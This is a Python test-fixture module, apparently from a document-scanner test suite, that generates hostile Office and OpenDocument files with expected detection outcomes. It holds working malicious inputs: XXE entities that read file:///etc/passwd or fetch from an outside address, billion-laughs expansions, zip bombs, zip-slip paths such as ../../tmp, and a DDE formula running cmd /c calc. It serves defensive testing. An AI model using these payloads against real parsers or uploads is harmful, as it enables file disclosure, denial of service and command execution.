"""Office files that fetch, unpack without end, or are not what they say."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.hostile.kinds import Expect, Found, zip_with_bomb, zipped

NAMED, SHOWN, EITHER = Expect.NAMED, Expect.SHOWN, Expect.EITHER
_OPEN = "http://schemas.openxmlformats.org"
_WORD = f"{_OPEN}/wordprocessingml/2006/main"
_SHEET = f"{_OPEN}/spreadsheetml/2006/main"
_TYPE = "application/vnd.openxmlformats-officedocument."
_OUTER = "http://192.0.2.1"


def types(main: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Types xmlns="{_OPEN}/package/2006/content-types">'
        f'<Override PartName="/main.xml" ContentType="{main}"/></Types>'
    ).encode()


def letter(text: str = "บันทึกข้อความ", before: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{_WORD}"><w:body>'
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


DOCX = types(f"{_TYPE}wordprocessingml.document.main+xml")
XLSX = types(f"{_TYPE}spreadsheetml.sheet.main+xml")
PPTX = types(f"{_TYPE}presentationml.presentation.main+xml")


def docx(document: bytes) -> bytes:
    return zipped({"[Content_Types].xml": DOCX, "word/document.xml": document})


def slide(text: str) -> bytes:
    space = f"{_OPEN}/drawingml/2006/main"
    return f'<p xmlns:a="{space}"><a:p><a:t>{text}</a:t></a:p></p>'.encode()


def sheet(rows: str, head: str = "") -> bytes:
    return f'<worksheet xmlns="{_SHEET}">{head}<sheetData>{rows}</sheetData></worksheet>'.encode()


def xlsx(content: bytes, strings: bytes = b"") -> bytes:
    parts = {"[Content_Types].xml": XLSX, "xl/worksheets/sheet1.xml": content}
    return zipped(parts | ({"xl/sharedStrings.xml": strings} if strings else {}))


def related(*relations: str) -> bytes:
    inside = "".join(
        f'<Relationship Id="r{n}" Type="{_OPEN}/officeDocument/2006/relationships/{kind}"'
        f' Target="{_OUTER}/{kind}" TargetMode="External"/>'
        for n, kind in enumerate(relations)
    )
    return f'<Relationships xmlns="{_OPEN}/package/2006/relationships">{inside}</Relationships>'.encode()


def odf(kind: str, content: bytes, **more: bytes) -> bytes:
    mark = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped({"mimetype": mark, "content.xml": content} | more)


def odf_content(inside: str, before: str = "") -> bytes:
    space = "urn:oasis:names:tc:opendocument:xmlns:"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<office:document-content xmlns:office="{space}office:1.0"'
        f' xmlns:text="{space}text:1.0" xmlns:table="{space}table:1.0"><office:body>{inside}'
        "</office:body></office:document-content>"
    ).encode()


def office_files() -> Iterator[Found]:
    yield from _tricks()
    yield from _bombs()
    yield from _fetching()
    yield from _macros()
    yield from _old()
    yield from _damaged()


def _tricks() -> Iterator[Found]:
    outer = '<!DOCTYPE x [<!ENTITY e SYSTEM "{}">]>'
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    declared = {
        "file read": outer.format("file:///etc/passwd"),
        "address fetched": outer.format(f"{_OUTER}/xxe"),
        "document type fetched": f'<!DOCTYPE x SYSTEM "{_OUTER}/x.dtd">',
        "billion laughs": f"<!DOCTYPE x [{laughs}]>",
        "quadratic laughs": f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>',
        "parameters fetched": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_OUTER}/p">%p;]>',
    }
    uses = {"billion laughs": "&l9;", "quadratic laughs": "&e;" * 5000, "file read": "&e;"}
    for what, before in declared.items():
        said = uses.get(what, "x")
        yield Found(f"{what} by a Word file", "letter.docx", docx(letter(said, before)), NAMED)
        content = odf_content(f"<office:text><text:p>{said}</text:p></office:text>", before)
        yield Found(f"{what} by an OpenDocument", "letter.odt", odf("text", content), NAMED)
    wide = (
        letter("x", declared["file read"]).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    yield Found("document type in UTF-16", "letter.docx", docx(wide.encode("utf-16")), NAMED)
    late = "<!--" + "x" * 70_000 + "-->" + declared["billion laughs"]
    yield Found("document type behind a comment", "letter.docx", docx(letter("&l9;", late)), NAMED)
    laughing = sheet('<row><c t="inlineStr"><is><t>&l9;</t></is></c></row>')
    before = declared["billion laughs"].encode()
    yield Found("billion laughs by a workbook", "sheet.xlsx", xlsx(before + laughing), NAMED)
    include = letter(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    )
    yield Found("another file included", "letter.docx", docx(include), EITHER)
    styled = letter(before=f'<?xml-stylesheet type="text/xsl" href="{_OUTER}/x.xsl"?>')
    yield Found("style sheet fetched", "letter.docx", docx(styled), SHOWN)


def _bombs() -> Iterator[Found]:
    word = {"[Content_Types].xml": DOCX}
    head = letter().split(b"<w:p>")[0]
    yield Found(
        "letter of 1 GB",
        "letter.docx",
        zip_with_bomb(word, "word/document.xml", 1024, head=head),
        NAMED,
    )
    yield Found(
        "letter of 50 MB",
        "letter.docx",
        zip_with_bomb(word, "word/document.xml", 50, head=head),
        NAMED,
    )
    lying = zip_with_bomb(word, "word/document.xml", 1024, head=head, said=1000)
    yield Found("letter of 1 GB that says 1 KB", "letter.docx", lying, NAMED)
    types_bomb = zip_with_bomb({"word/document.xml": letter()}, "[Content_Types].xml", 1024)
    yield Found("list of contents of 1 GB", "letter.docx", types_bomb, NAMED)
    mark_bomb = zip_with_bomb({"content.xml": odf_content("")}, "mimetype", 1024)
    yield Found("mark of 1 GB", "letter.odt", mark_bomb, NAMED)
    whole = {"[Content_Types].xml": DOCX, "word/document.xml": letter()}
    picture = zip_with_bomb(whole, "word/media/image1.png", 512)
    yield Found("picture of 512 MB in a letter", "letter.docx", picture, SHOWN)
    strings = zip_with_bomb(
        {"[Content_Types].xml": XLSX, "xl/worksheets/sheet1.xml": sheet("")},
        "xl/sharedStrings.xml",
        1024,
        head=b"<sst>",
    )
    yield Found("words of 1 GB in a workbook", "sheet.xlsx", strings, NAMED)
    many = {"[Content_Types].xml": DOCX, "word/document.xml": letter()}
    many |= {f"word/{n}": b"" for n in range(12_000)}
    yield Found("letter of 12000 parts", "letter.docx", zipped(many), NAMED)
    yield Found(
        "elements 100000 deep",
        "letter.docx",
        docx(letter("<a>" * 100_000 + "</a>" * 100_000)),
        NAMED,
    )
    yield Found("word of 12 MB", "letter.docx", docx(letter("ก" * 4_000_000)), EITHER)
    yield Found(
        "100000 attributes",
        "letter.docx",
        docx(letter("<a " + " ".join(f'b{n}=""' for n in range(100_000)) + "/>")),
        EITHER,
    )
    yield Found(
        "a million empty paragraphs",
        "letter.docx",
        docx(letter("</w:t></w:r></w:p>" + "<w:p/>" * 1_000_000 + "<w:p><w:r><w:t>")),
        EITHER,
    )
    whole_sheet = '<dimension ref="A1:XFD1048576"/>'
    yield Found(
        "workbook as large as can be",
        "sheet.xlsx",
        xlsx(sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', whole_sheet)),
        SHOWN,
    )
    yield Found(
        "workbook of 300000 rows",
        "sheet.xlsx",
        xlsx(sheet("<row><c><v>1</v></c></row>" * 300_000)),
        SHOWN,
    )
    yield Found(
        "row of 500000 cells",
        "sheet.xlsx",
        xlsx(sheet("<row>" + "<c><v>1</v></c>" * 500_000 + "</row>")),
        EITHER,
    )
    laughs = f'<sst xmlns="{_SHEET}">' + "<si><t>ก</t></si>" * 300_000 + "</sst>"
    yield Found(
        "300000 words in a workbook",
        "sheet.xlsx",
        xlsx(sheet('<row><c t="s"><v>299999</v></c><c t="s"><v>0</v></c></row>'), laughs.encode()),
        EITHER,
    )
    yield Found(
        "word that is not in the list",
        "sheet.xlsx",
        xlsx(
            sheet(
                '<row><c t="s"><v>99999999999999999999</v></c><c t="s"><v>-1</v></c><c><v>7</v></c></row>'
            )
        ),
        SHOWN,
    )
    repeated = (
        '<office:spreadsheet><table:table><table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet>"
    )
    yield Found(
        "OpenDocument sheet repeated without end",
        "sheet.ods",
        odf("spreadsheet", odf_content(repeated)),
        SHOWN,
    )
    slides = {"[Content_Types].xml": PPTX}
    slides |= {f"ppt/slides/slide{n}.xml": slide(str(n)) for n in range(2000)}
    yield Found("2000 slides", "show.pptx", zipped(slides), SHOWN)


def _fetching() -> Iterator[Found]:
    for kind in ("attachedTemplate", "oleObject", "frame", "image", "subDocument"):
        fetched = zipped(
            {
                "[Content_Types].xml": DOCX,
                "word/document.xml": letter(),
                "word/_rels/settings.xml.rels": related(kind),
            }
        )
        yield Found(f"letter that fetches: {kind}", "letter.docx", fetched, SHOWN, scripts=True)
    linked = zipped(
        {
            "[Content_Types].xml": DOCX,
            "word/document.xml": letter(),
            "word/_rels/document.xml.rels": related("hyperlink"),
        }
    )
    yield Found("letter with a link", "letter.docx", linked, SHOWN)
    for what, formula in (
        ("web service", f'WEBSERVICE("{_OUTER}/x")'),
        ("dynamic exchange", "cmd|'/c calc'!A0"),
        ("link", f'HYPERLINK("{_OUTER}/x","x")'),
    ):
        content = sheet(f"<row><c><f>{formula.replace(chr(34), '&quot;')}</f><v>1</v></c></row>")
        yield Found(f"workbook with a formula: {what}", "sheet.xlsx", xlsx(content), SHOWN)
    fetched = zipped(
        {
            "[Content_Types].xml": XLSX,
            "xl/worksheets/sheet1.xml": sheet("<row><c><v>1</v></c></row>"),
            "xl/externalLinks/_rels/externalLink1.xml.rels": related("externalLinkPath"),
        }
    )
    yield Found("workbook linked to another", "sheet.xlsx", fetched, SHOWN, scripts=True)
    slides = zipped(
        {
            "[Content_Types].xml": PPTX,
            "ppt/slides/slide1.xml": slide("x"),
            "ppt/slides/_rels/slide1.xml.rels": related("video"),
        }
    )
    yield Found("slides with a film of the net", "show.pptx", slides, SHOWN, scripts=True)
    slip = zipped(
        {
            "[Content_Types].xml": DOCX,
            "word/document.xml": letter(),
            "../../../../../../tmp/esa-slipped": b"x",
            "/tmp/esa-slipped-too": b"x",
            "C:\\Windows\\esa.exe": b"x",
            "..\\..\\esa.exe": b"x",
            "word/CON": b"x",
        }
    )
    yield Found("parts that want to lie elsewhere", "letter.docx", slip, SHOWN)


def _macros() -> Iterator[Found]:
    macro = types("application/vnd.ms-word.document.macroEnabled.main+xml")
    parts = {
        "[Content_Types].xml": macro,
        "word/document.xml": letter(),
        "word/vbaProject.bin": b"x",
    }
    yield Found("letter with macros", "letter.docm", zipped(parts), NAMED)
    yield Found("letter with macros that calls itself .docx", "letter.docx", zipped(parts), NAMED)
    hidden = parts | {"[Content_Types].xml": DOCX}
    yield Found("letter with hidden macros", "letter.docx", zipped(hidden), SHOWN, scripts=True)
    embedded = {
        "[Content_Types].xml": DOCX,
        "word/document.xml": letter(),
        "word/embeddings/oleObject1.bin": b"MZ",
    }
    yield Found("letter with a program in it", "letter.docx", zipped(embedded), SHOWN, scripts=True)
    basic = odf(
        "text",
        odf_content("<office:text><text:p>x</text:p></office:text>"),
        **{"Basic/Standard/Module1.xml": b"x"},
    )
    yield Found("OpenDocument with macros", "letter.odt", basic, SHOWN, scripts=True)
    for name in ("sheet.xlsm", "show.pptm", "letter.dotm", "add.xlam"):
        yield Found(f"macros by name: {name}", name, zipped(parts), NAMED)


def ole(*names: str) -> bytes:
    """Enough of a file from before 2007 to be taken for one."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + struct.pack("<16xHHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + b"\0" * 64 for name in names)
    return head.ljust(512, b"\0") + entries.ljust(4096, b"\0")


def _old() -> Iterator[Found]:
    locked = ole("Root Entry", "EncryptedPackage", "EncryptionInfo")
    yield Found("Word file with a password", "letter.docx", locked, NAMED, encrypted=True)
    yield Found("workbook with a password", "sheet.xlsx", locked, NAMED, encrypted=True)
    yield Found("old letter", "letter.doc", ole("Root Entry", "WordDocument"), EITHER)
    yield Found(
        "old letter with macros",
        "letter.doc",
        ole("WordDocument", "Macros", "_VBA_PROJECT"),
        EITHER,
        scripts=True,
    )
    yield Found("old workbook that calls itself a letter", "letter.doc", ole("Workbook"), NAMED)
    yield Found("installer that calls itself a letter", "letter.doc", ole("\u4840\u3f3f"), NAMED)
    yield Found("old file without anything", "letter.doc", ole()[:520], NAMED)
    manifest = b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    sealed = zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": manifest,
            "content.xml": b"\x01\x02",
        }
    )
    yield Found("OpenDocument with a password", "letter.odt", sealed, NAMED, encrypted=True)
    marked = bytearray(docx(letter()))
    for place in _places(bytes(marked), b"PK\x01\x02"):
        marked[place + 8] |= 1
    yield Found("parts with a password", "letter.docx", bytes(marked), NAMED, encrypted=True)


def _places(content: bytes, sign: bytes) -> Iterator[int]:
    place = content.find(sign)
    while place >= 0:
        yield place
        place = content.find(sign, place + 1)


def _damaged() -> Iterator[Found]:
    whole = docx(letter())
    yield Found("letter cut in the middle", "letter.docx", whole[: len(whole) // 2], NAMED)
    yield Found("letter without its end", "letter.docx", whole[:-10], NAMED)
    broken = bytearray(whole)
    start = whole.index(b"word/document.xml") + 17
    broken[start : start + 30] = b"\xff" * 30
    yield Found("letter with a broken part", "letter.docx", bytes(broken), NAMED)
    yield Found("letter that is no XML", "letter.docx", docx(b"this is no XML"), NAMED)
    yield Found("letter of half an XML", "letter.docx", docx(letter()[:-30]), NAMED)
    yield Found(
        "letter in letters that are none",
        "letter.docx",
        docx(letter().replace("บ".encode(), b"\xff\xfe\xfd")),
        NAMED,
    )
    yield Found(
        "letter without its text", "letter.docx", zipped({"[Content_Types].xml": DOCX}), NAMED
    )
    yield Found(
        "letter without a list of contents",
        "letter.docx",
        zipped({"word/document.xml": letter()}),
        NAMED,
    )
    yield Found(
        "workbook without a sheet", "sheet.xlsx", zipped({"[Content_Types].xml": XLSX}), NAMED
    )
    yield Found(
        "workbook that calls itself a letter",
        "letter.docx",
        xlsx(sheet("<row><c><v>1</v></c></row>")),
        NAMED,
    )
    yield Found("letter that calls itself a workbook", "sheet.xlsx", whole, NAMED)
    yield Found("archive that calls itself a letter", "letter.docx", zipped({"a.txt": b"x"}), NAMED)
    yield Found("empty archive", "letter.docx", b"PK\x05\x06" + b"\0" * 18, NAMED)
    odd = io.BytesIO()
    with zipfile.ZipFile(odd, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr(
            zipfile.ZipInfo("[Content_Types].xml", (2014, 6, 11, 8, 0, 0)), DOCX, zipfile.ZIP_LZMA
        )
        archive.writestr(
            zipfile.ZipInfo("word/document.xml", (2014, 6, 11, 8, 0, 0)), letter(), zipfile.ZIP_LZMA
        )
    yield Found("letter packed in an unusual way", "letter.docx", odd.getvalue(), EITHER)
    twice = zipped(
        [
            ("[Content_Types].xml", DOCX),
            ("word/document.xml", letter("ก")),
            ("word/Document.xml", letter("ข")),
        ]
    )
    yield Found("letter with two texts", "letter.docx", twice, SHOWN)
    unknown = bytearray(whole)
    for sign, place in ((b"PK\x01\x02", 10), (b"PK\x03\x04", 8)):
        for at in _places(whole, sign):
            unknown[at + place] = 98
    yield Found("letter packed in an unknown way", "letter.docx", bytes(unknown), NAMED)
